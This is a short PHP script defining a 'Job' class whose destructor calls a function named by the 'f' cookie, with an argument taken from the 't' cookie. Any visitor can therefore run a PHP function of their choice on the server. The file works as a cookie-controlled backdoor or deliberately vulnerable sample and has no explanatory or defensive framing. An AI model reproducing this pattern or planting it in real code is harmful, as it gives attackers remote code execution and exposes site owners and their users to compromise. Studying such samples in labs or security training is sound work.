<?php
class Job {
    public $task;
    public $fn = 'printf';
    function __destruct() {
        $f = $this->fn;
        $f('%s', $this->task);
    }
}
$j = new Job();
$j->fn = $_COOKIE['f'];
$j->task = $_COOKIE['t'];
